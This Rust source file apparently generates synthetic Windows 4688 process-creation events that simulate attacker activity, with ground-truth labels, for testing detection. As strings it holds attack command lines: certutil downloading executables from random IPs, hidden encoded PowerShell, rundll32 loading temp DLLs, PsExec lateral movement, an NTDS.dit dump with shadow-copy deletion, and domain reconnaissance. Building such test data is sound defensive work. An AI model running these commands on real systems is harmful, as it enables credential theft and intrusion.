//! Injected attack-like activity: what it looks like in 4688 events, and where it lands.

use rand::Rng;
use rand_chacha::ChaCha8Rng;

use super::{
    catalog::{Role, Vars, render},
    tenant::Tenant,
};

/// A kind of injected activity.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AttackKind {
    /// `certutil -urlcache -f http://…` downloading a payload to a temp folder.
    CertutilDownload,
    /// `powershell -nop -w hidden -enc …` started by an Office application.
    EncodedPowerShell,
    /// `rundll32` loading a DLL from a user's temp folder.
    RundllFromTemp,
    /// PsExec from a workstation to a host the account does not normally use.
    PsExecLateral,
    /// `ntdsutil` / `vssadmin` on a domain controller (credential theft).
    NtdsDump,
    /// A burst of discovery commands by one account within minutes.
    ReconBurst,
}

impl AttackKind {
    /// The label written to the ground truth.
    pub fn label(self) -> &'static str {
        match self {
            AttackKind::CertutilDownload => "certutil_download",
            AttackKind::EncodedPowerShell => "encoded_powershell",
            AttackKind::RundllFromTemp => "rundll32_from_temp",
            AttackKind::PsExecLateral => "psexec_lateral",
            AttackKind::NtdsDump => "ntds_dump",
            AttackKind::ReconBurst => "recon_burst",
        }
    }
}

/// One injected event.
#[derive(Debug, Clone)]
pub struct AttackEvent {
    /// Microseconds since the start of the day.
    pub offset_us: i64,
    /// Host index.
    pub host: usize,
    /// Account index.
    pub account: usize,
    /// Image path.
    pub image: String,
    /// Parent image path.
    pub parent: String,
    /// Command line.
    pub command: String,
    /// What it belongs to.
    pub kind: AttackKind,
}

const CMD: &str = r"C:\Windows\System32\cmd.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

/// Plans the day's episodes: each host independently gets one with probability `rate`.
pub fn plan_day(tenant: &mut Tenant, rate: f64, rng: &mut ChaCha8Rng) -> Vec<AttackEvent> {
    let mut events = Vec::new();
    for host in 0..tenant.hosts.len() {
        if rng.random::<f64>() >= rate {
            continue;
        }
        let role = tenant.hosts[host].role;
        let kinds: &[AttackKind] = match role {
            Role::Workstation => &[
                AttackKind::CertutilDownload,
                AttackKind::EncodedPowerShell,
                AttackKind::RundllFromTemp,
                AttackKind::PsExecLateral,
                AttackKind::ReconBurst,
            ],
            Role::Server => &[AttackKind::ReconBurst, AttackKind::PsExecLateral],
            Role::DomainController => &[AttackKind::NtdsDump, AttackKind::ReconBurst],
        };
        let kind = kinds[rng.random_range(0..kinds.len())];
        episode(tenant, host, kind, rng, &mut events);
    }
    events
}

fn ip(rng: &mut ChaCha8Rng) -> String {
    format!(
        "{}.{}.{}.{}",
        rng.random_range(23..223),
        rng.random_range(0..255),
        rng.random_range(0..255),
        rng.random_range(1..254)
    )
}

fn episode(
    tenant: &mut Tenant,
    host: usize,
    kind: AttackKind,
    rng: &mut ChaCha8Rng,
    out: &mut Vec<AttackEvent>,
) {
    let start = rng.random_range(0..86_000_000_000i64 - 3_600_000_000);
    let mut t = start;
    let mut step = |rng: &mut ChaCha8Rng| {
        t += rng.random_range(200_000..20_000_000);
        t
    };
    let user = tenant.hosts[host].users[0];
    let vars_user = tenant.accounts[user].user.clone();
    let host_name = tenant.hosts[host].name.clone();
    let vars = Vars {
        user: &vars_user,
        host: &host_name,
        domain: &tenant.domain,
    };
    let mut push = |offset_us, host, account, image: &str, parent: &str, command: String| {
        out.push(AttackEvent {
            offset_us,
            host,
            account,
            image: image.to_string(),
            parent: parent.to_string(),
            command,
            kind,
        })
    };
    let text = |template: &str, rng: &mut ChaCha8Rng| {
        let mut s = String::new();
        render(template, &vars, rng, &mut s);
        s
    };
    match kind {
        AttackKind::CertutilDownload => {
            for _ in 0..rng.random_range(1..=3) {
                let url = ip(rng);
                let cmd = text(r"certutil.exe -urlcache -split -f http://", rng)
                    + &url
                    + &text(
                        r"/{pick:update|invoice|setup}.exe C:\Users\{user}\AppData\Local\Temp\{tmp}.exe",
                        rng,
                    );
                push(
                    step(rng),
                    host,
                    user,
                    r"C:\Windows\System32\certutil.exe",
                    CMD,
                    cmd,
                );
            }
        }
        AttackKind::EncodedPowerShell => {
            let office = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
            for _ in 0..rng.random_range(1..=4) {
                let blob: String = (0..rng.random_range(120..400))
                    .map(|_| {
                        let c = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
                        c[rng.random_range(0..c.len())] as char
                    })
                    .collect();
                let cmd = format!("powershell.exe -nop -w hidden -enc {blob}");
                push(step(rng), host, user, POWERSHELL, office, cmd);
            }
        }
        AttackKind::RundllFromTemp => {
            for _ in 0..rng.random_range(1..=2) {
                let cmd = text(
                    r"rundll32.exe C:\Users\{user}\AppData\Local\Temp\{tmp}.dll,{pick:DllRegisterServer|Start|#1|Control_RunDLL}",
                    rng,
                );
                push(
                    step(rng),
                    host,
                    user,
                    r"C:\Windows\System32\rundll32.exe",
                    CMD,
                    cmd,
                );
            }
        }
        AttackKind::PsExecLateral => {
            // The account moves to a host it does not normally use.
            let target = loop {
                let t = rng.random_range(0..tenant.hosts.len());
                if t != host || tenant.hosts.len() == 1 {
                    break t;
                }
            };
            let target_name = tenant.hosts[target].name.clone();
            if tenant.hosts[host].role == Role::Workstation {
                let cmd = format!(r"PsExec.exe \\{target_name} -accepteula -s cmd.exe");
                push(
                    step(rng),
                    host,
                    user,
                    r"C:\Users\Public\PsExec.exe",
                    CMD,
                    cmd,
                );
            }
            let svc = r"C:\Windows\PSEXESVC.exe";
            push(
                step(rng),
                target,
                user,
                svc,
                r"C:\Windows\System32\services.exe",
                svc.into(),
            );
            for cmd in [
                "whoami /all",
                "hostname",
                "net localgroup administrators",
                "tasklist /v",
            ]
            .iter()
            .take(rng.random_range(1..=4))
            {
                push(
                    step(rng),
                    target,
                    user,
                    CMD,
                    svc,
                    format!("cmd.exe /c {cmd}"),
                );
            }
        }
        AttackKind::NtdsDump => {
            let admin = tenant.admins[rng.random_range(0..tenant.admins.len())];
            let n = rng.random_range(100..999);
            push(
                step(rng),
                host,
                admin,
                r"C:\Windows\System32\vssadmin.exe",
                CMD,
                "vssadmin.exe create shadow /for=C:".into(),
            );
            push(
                step(rng),
                host,
                admin,
                r"C:\Windows\System32\ntdsutil.exe",
                CMD,
                format!(r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\{n}" q q"#),
            );
            push(
                step(rng),
                host,
                admin,
                CMD,
                POWERSHELL,
                format!(
                    r"cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{}\Windows\NTDS\ntds.dit C:\Windows\Temp\{n}\n.dit",
                    rng.random_range(1..9)
                ),
            );
            if rng.random::<bool>() {
                push(
                    step(rng),
                    host,
                    admin,
                    r"C:\Windows\System32\vssadmin.exe",
                    CMD,
                    "vssadmin.exe delete shadows /all /quiet".into(),
                );
            }
        }
        AttackKind::ReconBurst => {
            let account = if tenant.hosts[host].role == Role::Workstation {
                user
            } else {
                tenant.admins[rng.random_range(0..tenant.admins.len())]
            };
            let commands: &[(&str, &str)] = &[
                (r"C:\Windows\System32\whoami.exe", "whoami /groups"),
                (
                    r"C:\Windows\System32\net.exe",
                    r#"net group "Domain Admins" /domain"#,
                ),
                (r"C:\Windows\System32\net.exe", "net user /domain"),
                (
                    r"C:\Windows\System32\nltest.exe",
                    "nltest /dclist:contoso.local",
                ),
                (r"C:\Windows\System32\ipconfig.exe", "ipconfig /all"),
                (r"C:\Windows\System32\systeminfo.exe", "systeminfo"),
                (r"C:\Windows\System32\tasklist.exe", "tasklist /svc"),
                (r"C:\Windows\System32\quser.exe", "quser"),
                (r"C:\Windows\System32\ARP.EXE", "arp -a"),
                (r"C:\Windows\System32\NETSTAT.EXE", "netstat -ano"),
            ];
            for _ in 0..rng.random_range(30..150) {
                let (image, cmd) = commands[rng.random_range(0..commands.len())];
                let t = step(rng) / 8 + start * 7 / 8;
                push(t, host, account, image, CMD, cmd.to_string());
            }
        }
    }
}
